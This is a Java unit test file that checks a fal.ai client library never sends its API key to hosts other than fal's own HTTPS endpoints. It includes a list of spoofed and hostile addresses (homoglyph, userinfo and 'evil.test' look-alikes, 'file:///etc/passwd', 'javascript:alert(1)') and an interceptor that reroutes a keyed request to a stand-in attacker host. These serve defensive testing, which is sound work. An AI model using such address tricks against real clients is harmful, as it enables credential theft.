package io.github.fal4j;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowable;

import io.github.fal4j.FakeInternet.Arrival;
import io.github.fal4j.error.RequestException;
import java.net.URI;
import java.nio.file.Path;
import java.security.KeyStore;
import java.util.Set;
import java.util.function.Function;
import okhttp3.HttpUrl;
import okhttp3.mockwebserver.MockResponse;
import okhttp3.mockwebserver.RecordedRequest;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.Timeout.ThreadMode;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A service that turned hostile, or somebody in front of it, tries to have the key sent elsewhere. Under fal's real names. */
@Timeout(value = 120, threadMode = ThreadMode.SEPARATE_THREAD)
final class KeyTheftTest {

    private static final Set<String> FAL = Set.of("https://fal.run", "https://queue.fal.run");
    private static final String PATH = "/acme/sketch/requests/" + FakeFal.ID;

    @TempDir
    private static Path folder;

    private static KeyStore keys;

    private FakeInternet internet;
    private FalClient client;
    private volatile Function<RecordedRequest, MockResponse> answer = request -> json(FakeFal.OUTPUT);

    @BeforeAll
    static void makeCertificate() throws Exception {
        keys = FakeInternet.certificate(folder.resolve("keys.p12"));
    }

    @BeforeEach
    void open() throws Exception {
        internet = new FakeInternet(keys, request -> answer.apply(request));
        client = client().build();
    }

    @AfterEach
    void close() throws Exception {
        client.close();
        internet.close();
    }

    private FalClientBuilder client() {
        return FalClient.builder().key(FakeFal.KEY).timing(new ManualTime()).httpClient(internet.client());
    }

    private static MockResponse json(String body) {
        return FakeFal.json(200, body);
    }

    /** Plays the queue, with the given address in every answer. */
    private MockResponse queue(RecordedRequest request, String address) {
        String path = String.valueOf(request.getPath());
        if (request.getMethod().equals("POST")) {
            return json(FakeFal.ticket(address));
        }
        if (request.getMethod().equals("PUT")) {
            return json("{\"status\":\"OK\"}");
        }
        if (path.endsWith("/status/stream")) {
            return FakeFal.json(404, "{}");
        }
        return json(
                path.contains("/status")
                        ? "{\"response_url\":\"" + address + "\","
                                + FakeFal.completedJson().substring(1)
                        : FakeFal.OUTPUT);
    }

    private void assertThatOnlyFalWasCalled() {
        assertThat(internet.arrivals()).isNotEmpty().extracting(Arrival::origin).allMatch(FAL::contains);
    }

    @Test
    void keyGoesToFalOverTls() {
        answer = request -> queue(request, "https://queue.fal.run" + PATH);
        Sketch.with(client).run(SketchInput.of("a cat"));
        Sketch.with(client).subscribe(SketchInput.of("a cat"));
        assertThatOnlyFalWasCalled();
        assertThat(internet.arrivals()).allMatch(Arrival::bringsKey);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://evil.test",
                "http://queue.fal.run",
                "https://queue.fal.run:8443",
                "https://queue.fal.run.evil.test",
                "https://evilqueue.fal.run",
                "https://queue.fal.run.",
                "https://queue-fal.run",
                "https://fal.run",
                "https://rest.fal.ai",
                "https://v3.fal.media",
                "https://user@queue.fal.run",
                "https://user:pw@queue.fal.run",
                "https://queue.fal.run@evil.test",
                "https://queue.fal.run:pw@evil.test",
                "https://evil.test\\\\@queue.fal.run",
                "https://evil.test#@queue.fal.run",
                "https://queue.fal.run%2eevil.test",
                "https://queue.f\u0430l.run",
                "https://xn--queue-fal.run",
                "https://127.0.0.1",
                "https://[::1]",
                "//evil.test",
                "evil.test",
                "file:///etc/passwd",
                "javascript:alert(1)"
            })
    void strangeAddressInAnAnswerIsNeverCalled(String origin) {
        answer = request -> queue(request, origin + PATH);
        RequestHandle<SketchOutput> request = Sketch.with(client).submit(SketchInput.of("a cat"));
        assertThat(request.get().seed()).isEqualTo(77);
        request.cancel();
        assertThatOnlyFalWasCalled();
        assertThat(internet.arrivals()).extracting(a -> a.request().getPath()).contains(PATH, PATH + "/cancel");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "https://evil.test/x",
                "http://queue.fal.run/x",
                "https://queue.fal.run.evil.test/",
                "//evil.test"
            })
    void redirectIsNeverFollowed(String target) {
        for (int status : new int[] {301, 302, 303, 307, 308}) {
            answer = request -> new MockResponse().setResponseCode(status).setHeader("Location", target);
            Endpoint<SketchInput, SketchOutput> sketch = Sketch.with(client);
            RequestHandle<SketchOutput> request = sketch.request(FakeFal.ID);
            assertThatThrownBy(() -> sketch.run(SketchInput.of("a cat"))).isInstanceOf(RequestException.class);
            assertThatThrownBy(() -> sketch.submit(SketchInput.of("a cat"))).isInstanceOf(RequestException.class);
            assertThatThrownBy(request::get).isInstanceOf(RequestException.class);
            assertThatThrownBy(request::cancel).isInstanceOf(RequestException.class);
        }
        assertThatOnlyFalWasCalled();
    }

    @Test
    void writtenDownRequestWithStrangeAddressesIsLookedForAtFal() {
        answer = request -> queue(request, "https://queue.fal.run" + PATH);
        URI evil = URI.create("https://evil.test" + PATH);
        RequestRef forged = new RequestRef(EndpointId.parse("acme/sketch"), FakeFal.ID, evil, evil, evil);
        RequestRef read = RequestRef.decode(forged.encode());
        assertThat(Sketch.with(client).request(read).get().seed()).isEqualTo(77);
        assertThatOnlyFalWasCalled();
    }

    @Test
    void interceptorThatSendsCallsElsewhereGetsNoKeyThere() {
        try (FalClient bent = client().interceptor(chain -> chain.proceed(chain.request()
                        .newBuilder()
                        .url(HttpUrl.get("https://fal.run.evil.test/x"))
                        .header("Authorization", "Key " + FakeFal.KEY)
                        .build()))
                .build()) {
            Sketch.with(bent).run(SketchInput.of("a cat"));
        }
        assertThat(internet.arrivals()).singleElement().matches(a -> a.origin().equals("https://fal.run.evil.test"));
        assertThat(internet.arrivals()).noneMatch(Arrival::bringsKey);
    }

    @Test
    void interceptorNeverSeesTheKey() {
        StringBuilder seen = new StringBuilder();
        try (FalClient watched = client().interceptor(chain -> {
                    seen.append(chain.request().headers().toMultimap());
                    return chain.proceed(chain.request());
                })
                .build()) {
            Sketch.with(watched).run(SketchInput.of("a cat"));
        }
        assertThat(seen.toString()).contains("user-agent").doesNotContain("secret-1");
    }

    @Test
    void challengeIsNotAnsweredWithTheCallersOtherPasswords() {
        answer = request -> new MockResponse().setResponseCode(401).setHeader("WWW-Authenticate", "Basic realm=\"x\"");
        var talkative = internet.client()
                .newBuilder()
                .authenticator((route, response) -> response.request()
                        .newBuilder()
                        .header("X-Password", "other")
                        .build())
                .build();
        try (FalClient borrowed = client().httpClient(talkative).build()) {
            assertThat(catchThrowable(
                            () -> Sketch.with(borrowed).request(FakeFal.ID).status()))
                    .isNotNull();
        }
        assertThat(internet.arrivals()).hasSize(1);
    }

    @Test
    void falsOwnHostsAreRefusedOverPlainHttp() {
        for (String host : new String[] {"fal.run", "queue.fal.run", "REST.fal.ai", "fal.ai", "queue.falrun.com"}) {
            assertThatThrownBy(() -> Hosts.behind(URI.create("http://" + host)))
                    .isInstanceOf(IllegalArgumentException.class)
                    .hasMessageContaining("must be https");
        }
        assertThat(Hosts.behind(URI.create("http://notfal.run")).queue()).hasHost("notfal.run");
    }
}
